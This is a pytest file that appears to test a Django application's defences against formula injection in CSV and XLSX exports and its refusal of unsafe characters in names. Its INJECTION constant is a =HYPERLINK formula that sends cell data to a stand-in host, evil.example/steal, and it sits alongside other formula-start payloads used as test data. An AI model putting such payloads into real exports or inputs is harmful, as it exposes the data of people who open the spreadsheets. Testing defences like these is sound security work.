"""Issue 23, leaks — formula injection.

A name such as ``=HYPERLINK("http://…","x")``, accepted by the portal's registration
without a login, became a live formula cell in the XLSX export and an unprefixed cell in
the CSV. Exports neutralise every text cell that begins with ``=``, ``+``, ``-``, ``@``, a
tab or a carriage return (OWASP's CSV-injection rule), and names holding characters that
no card printer prints in a name are refused wherever a name comes in.
"""

import csv
import io
import json

import pytest
from openpyxl import load_workbook

from sbk.accounts.models import ApiToken
from sbk.core.actors import IMPORTER
from sbk.core.errors import ServiceError
from sbk.exports import services as exports
from sbk.exports.writers import Watermark, render
from sbk.portal.services import register_applicant
from sbk.registry import services as registry
from sbk.registry.importer import import_people
from sbk.registry.models import Person
from sbk.registry.names import check_name
from sbk.testing import PASSWORD, person, resident_number

pytestmark = pytest.mark.django_db

INJECTION = '=HYPERLINK("http://evil.example/steal?d="&A1,"点此查看")'
# Every start OWASP names, as a legacy record could still hold it (planted past the rules).
PLANTED = [INJECTION, "+1+2", "-3+4", "@SUM(1)", "\t=1+1", "\r=1+1"]


@pytest.fixture
def planted(world):
    """People whose names slipped in before the name rule (an old import): exports must
    still write them as text."""
    people = []
    for name in PLANTED:
        p = person(world.outlet_a, name="某甲")
        Person.objects.filter(pk=p.pk).update(name=name)
        people.append(p)
    return people


def _export(world, fmt):
    return exports.export_people(acting_user=world.operator_a, query="", fmt=fmt).content


def test_xlsx_export_writes_no_formula_cell(world, planted):
    wb = load_workbook(io.BytesIO(_export(world, "xlsx")))
    cells = [c for row in wb.active.iter_rows() for c in row if c.value is not None]
    assert cells and not [c.coordinate for c in cells if c.data_type == "f"]
    assert all(c.data_type == "s" for c in cells if isinstance(c.value, str))
    names = {c.value for c in wb.active["A"][1:]}
    assert "'" + INJECTION in names and "'+1+2" in names and "'-3+4" in names
    assert "'@SUM(1)" in names and "'\t=1+1" in names
    assert not [v for v in names if v and v.startswith(("=", "+", "-", "@", "\t", "\r"))]


def test_csv_export_prefixes_every_formula_start(world, planted):
    text = _export(world, "csv").decode("utf-8-sig")
    first, rest = text.split("\n", 1)
    assert first.startswith("# ")
    rows = list(csv.reader(io.StringIO(rest)))
    cells = [cell for row in rows for cell in row]
    assert not [c for c in cells if c.startswith(("=", "+", "-", "@", "\t", "\r"))]
    names = [row[0] for row in rows[1:]]
    assert "'" + INJECTION in names and "'\r=1+1" in names and "甲某" in names


def test_json_export_keeps_values_as_they_are(world, planted):
    body = json.loads(_export(world, "json"))
    names = {r["name"] for r in body["rows"]}
    assert INJECTION in names and "+1+2" in names  # not a spreadsheet: nothing to neutralise


def test_the_csv_watermark_stays_one_line_whatever_the_filter_holds():
    mark = Watermark("u", "u", "-", "t", "张\r=1+1\n@x", 0, False)
    text = render("csv", [("name", "姓名")], [{"name": "-x"}], mark).decode("utf-8-sig")
    lines = text.splitlines()
    assert lines[0].startswith("# ") and lines[1:] == ["姓名", "'-x"]


# --- names --------------------------------------------------------------------------------
REFUSED = [
    INJECTION,
    "+张三",
    "-张三",
    "@张三",
    "张三\x00",
    "张\x1b三",
    "张\u202e三",  # right-to-left override
    "张\u200b三",  # zero-width space
    '"张三"',
    "<b>张三</b>",
    "张三;",
    "张-三",  # a hyphen belongs to foreign names; Han names use the middle dot
    "·张三",
    "Иван",  # foreign names are written in Latin letters
]
ACCEPTED = [
    "张三",
    "阿依古丽·买买提",
    "阿依古丽•买买提",  # another dot, normalised
    "SMITH JOHN",
    "ANNA-MARIA O'NEIL",
    "JOHN F. KENNEDY",
    "Müller Anna",
]
FLAGGED = ["王𠮷", "王喆", "李Anna"]  # 生僻字, mixed scripts: flagged, not refused


@pytest.mark.parametrize("name", REFUSED)
def test_names_with_characters_no_card_prints_are_refused(name):
    check = check_name(name)
    assert [code for code, _ in check.refused] == ["name_chars"], name
    assert not check.printable


@pytest.mark.parametrize("name", ACCEPTED)
def test_valid_names_pass(name):
    check = check_name(name)
    assert check.printable and not check.problems, (name, check.problems)


@pytest.mark.parametrize("name", FLAGGED)
def test_rare_and_mixed_names_are_flagged_not_refused(name):
    check = check_name(name)
    assert not check.refused and not check.printable and check.problems


def test_portal_registration_refuses_a_formula_name(world):
    before = Person.objects.count()
    with pytest.raises(ServiceError) as exc:
        register_applicant(
            name=INJECTION,
            id_number=resident_number("310112"),
            phone="13800000009",
            password=PASSWORD,
        )
    assert (exc.value.code, exc.value.field) == ("name_chars", "name")
    assert "“=”" in exc.value.message
    assert Person.objects.count() == before


def test_portal_registration_page_shows_the_name_error(client, world):
    resp = client.post(
        "/portal/register/",
        {
            "name": INJECTION,
            "id_number": resident_number("310112"),
            "phone": "13800000010",
            "category": "resident",
            "password": PASSWORD,
            "password2": PASSWORD,
        },
    )
    assert resp.status_code == 200 and "不能用于姓名的字符" in resp.content.decode()
    assert not Person.objects.filter(name__startswith="=").exists()


def test_registry_create_and_change_refuse_with_a_field_error(world):
    with pytest.raises(ServiceError) as exc:
        person(world.outlet_a, acting_user=world.operator_a, name=INJECTION)
    assert ("name", "name_chars") in {(p.field, p.code) for p in exc.value.problems}
    with pytest.raises(ServiceError) as exc:
        registry.change_person(
            world.person_a.pk,
            acting_user=world.operator_a,
            changes={"name": "@SUM(1)"},
            reason="改名",
        )
    assert ("name", "name_chars") in {(p.field, p.code) for p in exc.value.problems}
    world.person_a.refresh_from_db()
    assert world.person_a.name == "甲某"


def test_registry_api_refuses_with_the_code(client, world):
    raw = "names-" + "n" * 40
    ApiToken.objects.create(user=world.operator_a, name="t", digest=ApiToken.digest_of(raw))
    resp = client.post(
        "/api/registry/persons",
        {"name": "+cmd", "id_number": resident_number("310112"), "category": "employee"},
        content_type="application/json",
        headers={"Authorization": f"Bearer {raw}"},
    )
    assert resp.status_code == 400
    assert {(e["field"], e["code"]) for e in resp.json()["errors"]} == {("name", "name_chars")}


def test_import_rejects_the_row(world, tmp_path):
    f = tmp_path / "people.csv"
    with f.open("w", encoding="utf-8", newline="") as fh:
        w = csv.writer(fh)
        w.writerow(["name", "id_number", "category", "org_code"])
        w.writerow(["张三", resident_number("310112"), "employee", "OA1"])
        w.writerow([INJECTION, resident_number("310112"), "employee", "OA1"])
    result = import_people(f, acting_user=IMPORTER, valid_only=True)
    assert result.written == 1
    assert [(e.row, e.field, e.code) for e in result.errors] == [(3, "name", "name_chars")]
    assert not Person.objects.filter(name__startswith="=").exists()
